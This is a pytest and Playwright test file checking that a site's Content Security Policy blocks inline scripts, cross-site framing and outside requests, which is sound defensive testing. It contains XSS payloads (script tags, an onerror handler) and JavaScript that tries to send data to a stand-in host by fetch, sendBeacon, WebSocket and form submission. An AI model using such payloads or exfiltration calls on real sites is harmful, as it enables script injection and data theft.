"""The policy that each page carries: nothing of the site breaks it, and what is put in doesn't run."""

from __future__ import annotations

from collections.abc import Iterator
from html import unescape
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from conftest import SilentHandler, serve
from playwright.sync_api import Browser, Page, expect
from settled import until, visit

from generator.headers import headers_of
from generator.policy import POLICY
from generator.site import pages

BROKEN = """
  window.broken = [];
  document.addEventListener('securitypolicyviolation', (event) =>
    window.broken.push(`${event.violatedDirective} ${event.blockedURI} ${event.sourceFile}`));
"""


def test_every_page_carries_the_policy_and_no_script_of_its_own(built_site: Path) -> None:
    for path in sorted(built_site.rglob("*.html")):
        html = unescape(path.read_text("utf-8"))
        started = [part.partition("</script>")[0] for part in html.split("<script")[1:]]
        inline = [one for one in started if " src=" not in one.partition(">")[0]]
        # Data are no script.
        assert all("json" in one.partition(">")[0] for one in inline), path
        if "<rv-find" in html:
            assert f'<meta http-equiv="Content-Security-Policy" content="{POLICY}">' in html, path


def violations(page: Page) -> list[str]:
    found: list[str] = page.evaluate("window.broken")
    return found


def test_no_page_breaks_it(chromium: Browser, site_url: str, library: object) -> None:
    """One of each kind, with search opened, in light and dark."""
    page = chromium.new_context(viewport={"width": 360, "height": 740}, color_scheme="dark").new_page()
    page.add_init_script(BROKEN)
    kinds = {page.kind: page.address for page in pages(library).values()}  # type: ignore[arg-type]
    for address in [*kinds.values(), "404.html"]:
        visit(page, site_url + address)
        expect(page.locator("body")).to_have_attribute("data-md-color-scheme", "slate")
        page.get_by_role("link", name="Search").first.click()
        page.get_by_role("combobox", name="Search").fill("heel")
        expect(page.get_by_role("dialog").get_by_role("option").first).to_be_visible()
        assert violations(page) == [], address


@pytest.mark.parametrize(
    "harm",
    [
        "<script>window.harmed = true</script>",
        "<img src=x onerror='window.harmed = true'>",
        "<script src='https://elsewhere.test/x.js'></script>",
        "<img src='https://elsewhere.test/x.png'>",
        "<iframe src='https://elsewhere.test/'></iframe>",
        "<style>body { display: none }</style>",
    ],
)
def test_what_is_put_into_a_page_is_blocked(chromium: Browser, built_site: Path, harm: str) -> None:
    html = (built_site / "stop/index.html").read_text("utf-8").replace("</main>", f"{harm}</main>")
    page = chromium.new_context().new_page()
    asked: list[str] = []
    page.on("requestfinished", lambda request: asked.append(request.url))
    page.on("requestfailed", lambda request: asked.append(f"{request.url} {request.failure}"))
    page.route("**/stop/harmed/", lambda route: route.fulfill(body=html, content_type="text/html"))
    page.add_init_script(BROKEN)
    page.goto("http://localhost/stop/harmed/")
    until(page, "window.broken.length > 0")
    assert page.evaluate("window.harmed") is None
    assert [url for url in asked if "elsewhere" in url and not url.endswith(" csp")] == []
    expect(page.locator("body")).to_be_visible()


def test_a_script_of_the_site_sends_nothing_elsewhere(chromium: Browser, site_url: str) -> None:
    """Not even one that came with a package, in any way that needs no tap."""
    page = chromium.new_context(service_workers="block").new_page()
    asked: list[str] = []
    page.route("https://elsewhere.test/**", lambda route: (asked.append(route.request.url), route.abort()))
    page.add_init_script(BROKEN)
    page.goto(f"{site_url}stop/")
    page.evaluate(
        """() => {
          fetch('https://elsewhere.test/fetched').catch(() => 0);
          navigator.sendBeacon('https://elsewhere.test/beacon', 'pain 3');
          new Image().src = 'https://elsewhere.test/picture';
          try { new WebSocket('wss://elsewhere.test/socket'); } catch {}
          const form = document.body.appendChild(document.createElement('form'));
          Object.assign(form, { method: 'post', action: 'https://elsewhere.test/form' }).submit();
        }"""
    )
    until(page, "window.broken.length >= 5")
    assert asked == []


def test_without_storage_the_scheme_can_be_switched(chromium: Browser, site_url: str) -> None:
    context = chromium.new_context()
    context.add_init_script(
        "Object.defineProperty(window, 'localStorage', { get() { throw new Error('no') } })"
    )
    page = context.new_page()
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.goto(site_url)
    page.locator("label[for=__palette_1]").click()
    expect(page.locator("body")).to_have_attribute("data-md-color-scheme", "slate")
    assert errors == []


class Host(SilentHandler):
    """A host that sends the headers which the site asks for."""

    def end_headers(self) -> None:
        """Those of the address that was asked for."""
        address = urlsplit(self.path).path.removeprefix("/")
        for name, value in headers_of(address).items():
            self.send_header(name, value)
        super().end_headers()


@pytest.fixture(scope="module")
def hosted_url(built_site: Path) -> Iterator[str]:
    """The address of the site as a host serves it that sends the headers."""
    with serve(built_site, Host) as url:
        yield url


def test_sent_as_headers_no_page_breaks_it_either(
    chromium: Browser, hosted_url: str, built_site: Path, library: object
) -> None:
    """One of each kind, one for a frame, and one that has moved."""
    page = chromium.new_context(service_workers="block").new_page()
    page.add_init_script(BROKEN)
    kinds = {page.kind: page.address for page in pages(library).values()}  # type: ignore[arg-type]
    embed = next(built_site.glob("embed/plans/*/*/index.html")).relative_to(built_site).parent.as_posix()
    code = next(built_site.glob("go/*/index.html")).relative_to(built_site).parent.as_posix()
    for address in [*kinds.values(), f"{embed}/", f"{code}/"]:
        visit(page, hosted_url + address)
        assert violations(page) == [], address


def test_only_what_is_made_for_it_is_shown_in_a_frame_of_another_site(
    chromium: Browser, hosted_url: str, built_site: Path, tmp_path: Path
) -> None:
    """Nobody can lay "Delete everything" under a button of their own."""
    embed = next(built_site.glob("embed/exercises/*/index.html")).relative_to(built_site).parent.as_posix()
    page = chromium.new_context().new_page()
    frames = [f"{hosted_url}{address}" for address in (f"{embed}/", "my/")]
    (tmp_path / "index.html").write_text("".join(f"<iframe src='{one}'></iframe>" for one in frames), "utf-8")
    with serve(tmp_path) as clinic:
        page.goto(clinic)
        expect(page.frame_locator("iframe").first.locator("h1")).to_be_visible()
        until(page, "frames.length === 2")
        # What the browser shows in its place is none of our pages.
        until(page, "Array.from(document.querySelectorAll('iframe')).at(-1).contentDocument === null")
        assert page.frames[-1].url.startswith("chrome-error:")
        expect(page.frame_locator("iframe").last.locator(".rv")).to_have_count(0)
